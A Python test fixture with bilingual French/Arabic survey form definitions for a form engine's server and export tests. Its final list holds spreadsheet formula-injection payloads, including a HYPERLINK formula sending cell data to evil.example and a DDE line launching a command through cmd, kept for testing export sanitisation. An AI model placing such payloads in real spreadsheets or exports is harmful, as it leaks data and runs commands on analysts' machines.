"""A small form definition in the form engine's JSON format, for server tests."""

from __future__ import annotations

import copy
from typing import Any


def _t(fr: str, ar: str) -> dict[str, str]:
    return {"fr": fr, "ar": ar}


TEST_FORM: dict[str, Any] = {
    "format": "fieldapp-form",
    "format_version": 1,
    "id": "baseline_test",
    "version": "1",
    "title": _t("Enquête test", "استبيان تجريبي"),
    "default_language": "fr",
    "languages": ["fr", "ar"],
    "choice_lists": {
        "yesno": [
            {"name": "yes", "label": _t("Oui", "نعم")},
            {"name": "no", "label": _t("Non", "لا")},
        ]
    },
    "children": [
        {
            "type": "integer",
            "name": "residents",
            "label": _t("Résidents", "المقيمون"),
            "required": True,
        },
        {"type": "text", "name": "manager_name", "label": _t("Responsable", "المسؤول")},
        {
            "type": "select_one",
            "name": "has_internet",
            "label": _t("Connexion ?", "اتصال؟"),
            "choices": "yesno",
            "required": True,
        },
        {"type": "decimal", "name": "bill_mad", "label": _t("Facture (MAD)", "الفاتورة")},
        {"type": "text", "name": "notes", "label": _t("Observations", "ملاحظات")},
    ],
}


def form_definition(version: str = "1", form_id: str = "baseline_test") -> dict[str, Any]:
    data = copy.deepcopy(TEST_FORM)
    data["version"] = version
    data["id"] = form_id
    return data


# Every kind of cell an export writes: texts, numbers, a date, choices, a repeat.
EXPORT_FORM: dict[str, Any] = {
    "format": "fieldapp-form",
    "format_version": 1,
    "id": "export_test",
    "version": "1",
    "title": _t("Export", "تصدير"),
    "default_language": "fr",
    "languages": ["fr", "ar"],
    "choice_lists": {
        "yesno": [
            {"name": "yes", "label": _t("Oui", "نعم")},
            {"name": "no", "label": _t("Non", "لا")},
        ],
        "water": [
            {"name": "solar", "label": _t("Solaire", "شمسي")},
            {"name": "gas", "label": _t("Gaz", "غاز")},
        ],
    },
    "children": [
        {"type": "text", "name": "manager_name", "label": _t("Responsable", "المسؤول")},
        {"type": "integer", "name": "residents", "label": _t("Résidents", "المقيمون")},
        {"type": "decimal", "name": "bill_mad", "label": _t("Facture (MAD)", "الفاتورة")},
        {"type": "date", "name": "visit_date", "label": _t("Date de visite", "تاريخ الزيارة")},
        {
            "type": "select_one",
            "name": "has_internet",
            "label": _t("Connexion ?", "اتصال؟"),
            "choices": "yesno",
        },
        {
            "type": "select_multiple",
            "name": "hot_water",
            "label": _t("Eau chaude", "الماء الساخن"),
            "choices": "water",
        },
        # The same label twice: label headers must still be unique.
        {"type": "text", "name": "notes", "label": _t("Observations", "ملاحظات")},
        {"type": "text", "name": "notes_more", "label": _t("Observations", "ملاحظات")},
        {
            "type": "repeat",
            "name": "bills",
            "label": _t("Factures", "الفواتير"),
            "children": [
                {"type": "date", "name": "bill_month", "label": _t("Mois", "الشهر")},
                {"type": "decimal", "name": "amount_mad", "label": _t("Montant", "المبلغ")},
                {"type": "text", "name": "bill_note", "label": _t("Remarque", "ملاحظة")},
            ],
        },
    ],
}

# What a hostile agent or registry file types to attack the analyst's spreadsheet (OWASP).
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
